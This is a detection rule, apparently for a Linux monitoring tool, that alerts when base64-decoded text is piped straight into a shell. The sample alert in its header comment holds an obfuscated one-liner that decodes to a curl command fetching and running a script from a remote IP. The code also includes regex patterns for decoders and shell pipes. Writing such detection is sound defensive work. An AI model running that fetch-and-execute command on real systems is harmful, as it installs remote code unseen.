// ringside: title="Decoded text goes straight into a shell" technique=T1140,T1027.010 level=high tags=linux,evasion
//
// `echo Y3Vyb… | base64 -d | sh`: what is to run is hidden from whoever reads the command line. Where the command is on one line it is decoded again
// for the alert.
//
//     $ sudo ringside run decoded-into-shell.js -o line
//     time=2026-05-04T13:47:45.000311900Z level=high rule=decoded-into-shell message="www-data: sh -c echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy9pLnNofHNo|base64 -d|sh (curl http://198.51.100.23/i.sh|sh)"
//
// Known false positives: a few installers carry their payload so. Ansible's and Kubernetes' own uses of base64 end in files, not shells.
// References: https://attack.mitre.org/techniques/T1140/ https://attack.mitre.org/techniques/T1027/010/

import { shells } from "ringside:lists";
import { fromBase64, shorten, utf8 } from "ringside:text";

const decoder = /\b(base64|base32)\s+(-\w*[dD]\w*|--decode)\b|\bopenssl\s+(enc\s+)?-(d\s+-base64|base64\s+-d)\b|\bxxd\s+-r\b/;
const intoShell = /\|\s*(sudo\s+)?(\/\S*\/)?((ba|da|z|k)?sh|python[\d.]*|perl|php)\b(?!\s+-c)|\beval\b|\bsh\s+-c\s+["']?[$`]|<\(/;
/** No script and no command: the shell reads what it is to do. */
const waiting = /^(\S*\/)?(ba|da|z|k)?sh(\s+-[sex]+)*$/;

procs
    .where(name.in(shells) && cmdline.matches(decoder) && cmdline.matches(intoShell))
    .alert((e) => `${e.user}: ${shorten(e.cmdline)}${decoded(e.cmdline ?? "")}`);

procs
    .where(name.in(["base64", "base32"]) && (args.includes("-d") || args.includes("-D") || args.includes("--decode")))
    .join(procs.where(name.in(shells) && cmdline.matches(waiting)), { by: ["parentGuid"], within: "500ms" })
    .alert((e) => `${e.user}: ${shorten(e.cmdline)} | ${e.right.cmdline}`);

/** @param {string} cmdline */
function decoded(cmdline) {
    const bytes = fromBase64(/[A-Za-z0-9+/]{16,}={0,2}/.exec(cmdline)?.[0] ?? "");
    return bytes ? ` (${shorten(utf8(bytes).trim(), 80)})` : "";
}
